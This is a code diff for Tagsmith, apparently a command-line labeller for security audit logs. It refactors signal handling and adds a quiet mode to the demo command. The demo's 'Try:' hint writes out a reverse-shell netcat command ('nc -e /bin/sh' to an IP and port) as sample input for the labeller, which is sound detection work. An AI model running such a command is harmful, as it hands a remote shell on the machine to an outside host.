@@ -8,6 +8,7 @@ import { openPipeline } from "./open-pipeline.ts";
 import { bundled } from "./paths.ts";
 import { createProgress } from "./progress.ts";
 import { addToSummary, createRunSummary, summaryJson, summaryText } from "./run-summary.ts";
+import { stopOnSignals } from "./stop-on-signals.ts";
 import type { Terminal } from "./terminal.ts";
 
 interface RunOptions {
@@ -43,9 +44,10 @@ export async function demoCommand(
     state: { path: ":memory:" },
   };
   const config = parseWith(configSchema, value, "demo", "");
-  if (!options.json) terminal.out.write("Tagsmith labels its bundled sample audit logs.\n\n");
+  const isSilent = options.json || options.quiet;
+  if (!isSilent) terminal.out.write("Tagsmith labels its bundled sample audit logs.\n\n");
   const code = await runConfig(config, options, registry, terminal);
-  if (!options.json)
+  if (!isSilent)
     terminal.out.write(
       `\nWritten: ${files.labels}, ${files.verdicts}\nTry: npx tagsmith label 'nc -e /bin/sh 203.0.113.10 4444'\n`,
     );
@@ -58,14 +60,17 @@ async function runConfig(
   registry: ConnectorRegistry,
   terminal: Terminal,
 ): Promise<number> {
-  const stop = stopOnSignals();
+  const isSilent = options.json || options.quiet;
+  const stop = stopOnSignals(process, terminal.now, () => {
+    if (!isSilent) terminal.err.write("\nStopping: what was read is finished and stored. Ctrl-C again ends at once.\n");
+  });
   const pipeline = await openPipeline(config, registry);
   const { counts } = pipeline.parts;
   const summary = createRunSummary();
   const progress = createProgress({
     stream: terminal.err,
     now: terminal.now,
-    enabled: !options.quiet && !options.json,
+    enabled: !isSilent,
   });
   const started = terminal.now();
   const onStep: NonNullable<typeof pipeline.parts.onStep> = ({ batch }, output) => {
@@ -76,31 +81,15 @@ async function runConfig(
   };
   try {
     await runPipeline({ ...pipeline.parts, onStep }, stop.signal);
+  } catch (error) {
+    if (!stop.isReasonOf(error)) throw error;
   } finally {
     progress.end();
-    stop.release();
     await pipeline.close();
+    stop.release();
   }
   const seconds = Math.max(0.001, (terminal.now() - started) / 1000);
   if (options.json) terminal.out.write(`${JSON.stringify(summaryJson(summary, counts, seconds))}\n`);
   else if (!options.quiet) terminal.out.write(summaryText(summary, counts, seconds));
   return stop.signal.aborted ? exitCodes.interrupted : exitCodes.ok;
-}
-
-/** The first SIGINT or SIGTERM asks for a graceful stop, the second ends the process at once. */
-function stopOnSignals(): { readonly signal: AbortSignal; release(): void } {
-  const controller = new AbortController();
-  const onSignal = (): void => {
-    if (controller.signal.aborted) process.exit(exitCodes.interrupted);
-    controller.abort(new Error("stopped by a signal"));
-  };
-  process.on("SIGINT", onSignal);
-  process.on("SIGTERM", onSignal);
-  return {
-    signal: controller.signal,
-    release: () => {
-      process.off("SIGINT", onSignal);
-      process.off("SIGTERM", onSignal);
-    },
-  };
 }
